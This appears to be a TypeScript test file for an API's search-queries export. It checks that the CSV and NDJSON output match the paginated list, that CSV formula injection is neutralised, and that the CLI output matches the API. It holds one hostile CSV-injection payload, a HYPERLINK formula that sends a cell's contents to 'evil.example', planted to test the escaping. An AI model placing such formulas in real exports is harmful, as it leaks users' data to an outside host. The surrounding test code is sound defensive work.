// The export of the engines' searches (fan-out, docs/fanout.md): GET
// /api/v1/projects/{slug}/search-queries.<csv|ndjson> equals the concatenation of the list's pages
// (GET /search-queries) for the same key and filters, over more rows than one export page; a
// search an engine wrote starting with a formula trigger is neutralised in the CSV like any other
// kind's text (the one CSV rule of src/core/exports/exports.ts); the CLI writes the same bytes.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../../src/core/kernel/ids.ts';
import { EXPORT_PAGE_LIMIT } from '../../src/core/kernel/pagination.ts';
import { engineNames } from '../../src/engines/engine-list.ts';
import { seedAccount, startTestApp, type TestApp } from '../support/app.ts';
import { runCliText } from '../support/cli.ts';
import { seedRuns } from '../support/seed-data.ts';

type Row = Record<string, string | number | boolean | null | string[]>;

let app: TestApp;
let seeded: Awaited<ReturnType<typeof seedAccount>>;
let slug: string;
const hostile = '=HYPERLINK("https://evil.example/?leak="&A2, "pricing")';
const ANSWERS = 400;
const SEARCHES_PER_ANSWER = 3;

beforeAll(async () => {
  app = await startTestApp({ VISIBILITY_RATE_LIMIT_READ: '100000' });
  seeded = await seedAccount(app.services);
  slug = seeded.projects[0].slug;
  const projectId = seeded.projects[0].id;
  const accountId = seeded.account.id;
  const [auditRunId] = await seedRuns(app.services, projectId, [new Date('2026-05-01T00:00:00Z')]);
  const start = Date.parse('2026-05-01T00:10:00Z');
  // More searches than one export page (EXPORT_PAGE_LIMIT), answers asked at the same instant
  // (ties broken by the answer's id), and answers whose engine does not expose searches (no row).
  const answers = Array.from({ length: ANSWERS }, (_, i) => {
    const engine = engineNames[i % engineNames.length];
    const askedAt = new Date(start + Math.floor(i / 4) * 60_000);
    return {
      id: newId('engineAnswer', askedAt),
      accountId,
      projectId,
      auditRunId,
      engine,
      sample: 1 + (i % 2),
      status: 'ANSWERED' as const,
      promptText: `prompt ${i % 7}`,
      model: `model-${engine.toLowerCase()}`,
      text: 'An answer.',
      askedAt,
      searchQueries:
        i % 10 === 9
          ? undefined
          : Array.from({ length: SEARCHES_PER_ANSWER }, (_, k) => ({
              query: i === 0 && k === 1 ? hostile : k === 2 ? `-${i} best tools` : `best tools ${i % 11} ${k}`,
              foundUrls: k === 0 ? [`https://a.example/${i}`, `https://client.example/${i}`] : null,
            })),
    };
  });
  await app.services.db.engineAnswer.createMany({ data: answers });
  // The first answer cites what its first search found: that search led to a citation.
  await app.services.db.citation.create({
    data: {
      id: newId('citation'),
      accountId,
      projectId,
      auditRunId,
      engineAnswerId: answers[0].id,
      engine: answers[0].engine,
      observedAt: answers[0].askedAt,
      url: 'https://a.example/0',
      normalizedUrl: 'https://a.example/0',
      host: 'a.example',
      title: null,
      position: 1,
      isClientDomain: false,
      isCompetitorDomain: true,
      citationConfidence: 90,
      matchedEntity: null,
    },
  });
}, 120_000);
afterAll(async () => app?.close());

const get = (p: string, key = seeded.key) => fetch(`${app.url}${p}`, { headers: { authorization: `Bearer ${key}` } });

/** Every row of the list for these filters, page after page of 100. */
async function allPages(query: string): Promise<Row[]> {
  const items: Row[] = [];
  let cursor: string | null = null;
  do {
    const res = await get(`/api/v1/projects/${slug}/search-queries?limit=100${query}${cursor ? `&cursor=${cursor}` : ''}`);
    expect(res.status).toBe(200);
    const body = (await res.json()) as { data: Row[]; nextCursor: string | null };
    items.push(...body.data);
    cursor = body.nextCursor;
  } while (cursor);
  return items;
}

/** A list row as its CSV row reads: null empty, a list space-separated, a formula trigger behind a quote, the rest as text. */
const asCsvRow = (item: Row) =>
  Object.fromEntries(
    Object.entries(item).map(([k, v]) => {
      const text = v === null ? '' : Array.isArray(v) ? v.join(' ') : String(v);
      return [k, typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${text}` : text];
    }),
  );

const ndjsonRows = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l) as unknown);

describe('the search-queries export', () => {
  for (const query of ['', `&engine=${engineNames[0]}&from=2026-05-01T00:30:00Z`]) {
    it(`equals the list's pages concatenated${query}`, async () => {
      const expected = await allPages(query);
      if (query === '') {
        expect(expected.length).toBe(ANSWERS * 0.9 * SEARCHES_PER_ANSWER);
        expect(expected.length).toBeGreaterThan(EXPORT_PAGE_LIMIT);
      } else expect(expected.length).toBeGreaterThan(10);

      const nd = await get(`/api/v1/projects/${slug}/search-queries.ndjson?${query.slice(1)}`);
      expect(nd.status).toBe(200);
      expect(nd.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
      expect(nd.headers.get('content-disposition')).toBe(`attachment; filename="${slug}-search-queries.ndjson"`);
      expect(ndjsonRows(await nd.text())).toEqual(expected);

      const csv = await get(`/api/v1/projects/${slug}/search-queries.csv?${query.slice(1)}`);
      expect(csv.status).toBe(200);
      const body = await csv.text();
      expect(body.split('\r\n')[0].split(',')).toEqual(Object.keys(expected[0]));
      expect(parse(body, { columns: true, record_delimiter: '\r\n' })).toEqual(expected.map(asCsvRow));
    });
  }

  it("neutralises a search starting with a formula trigger like the other kinds' text; raw=1 writes it as it is", async () => {
    const rows = await allPages('');
    const planted = rows.find((r) => r.query === hostile)!;
    expect(planted.position).toBe(2);
    const first = rows.find((r) => r.engineAnswerId === planted.engineAnswerId && r.position === 1)!;
    expect(first).toMatchObject({ ledToCitation: true, ledToCompetitorCitation: true, ledToClientCitation: false });
    expect(first.foundUrls).toEqual(['https://a.example/0', 'https://client.example/0']);

    type CsvRow = { engineAnswerId: string; position: string; query: string; foundUrls: string; ledToCitation: string };
    const read = async (q: string) =>
      parse<CsvRow>(await (await get(`/api/v1/projects/${slug}/search-queries.csv${q}`)).text(), { columns: true }).filter(
        (r) => r.engineAnswerId === planted.engineAnswerId,
      );
    const safe = await read('');
    expect(safe.map((r) => r.query)).toEqual([first.query, `'${hostile}`, `'-0 best tools`]);
    expect(safe[0].foundUrls).toBe('https://a.example/0 https://client.example/0');
    expect(safe[0].ledToCitation).toBe('true');
    expect(safe[1].foundUrls).toBe('');
    expect((await read('?raw=1')).map((r) => r.query)).toEqual([first.query, hostile, '-0 best tools']);
  });

  it('404 for another account, 400 for a bad filter; the CLI writes the same bytes', async () => {
    const other = await seedAccount(app.services);
    const res = await get(`/api/v1/projects/${slug}/search-queries.csv`, other.key);
    expect(res.status).toBe(404);
    expect(await res.json()).toEqual({ error: 'not_found' });
    const bad = await get(`/api/v1/projects/${slug}/search-queries.ndjson?engine=ALTAVISTA`);
    expect(bad.status).toBe(400);
    expect(await bad.json()).toEqual({ error: 'invalid_engine' });

    const engine = engineNames[1];
    const api = await (await get(`/api/v1/projects/${slug}/search-queries.csv?engine=${engine}`)).text();
    const cli = await runCliText(app.databaseUrl, [
      'export',
      '--account',
      seeded.account.email,
      '--project',
      slug,
      'search-queries',
      '--engine',
      engine,
    ]);
    expect(cli.code, cli.stderr).toBe(0);
    expect(cli.stdout).toBe(api);
    const wrong = await runCliText(app.databaseUrl, [
      'export',
      '--account',
      seeded.account.email,
      '--project',
      slug,
      'citations',
      '--prompt',
      'x',
    ]);
    expect(wrong.code).toBe(1);
    expect(wrong.stderr).toMatch(/--prompt does not apply to citations/);
  });
});
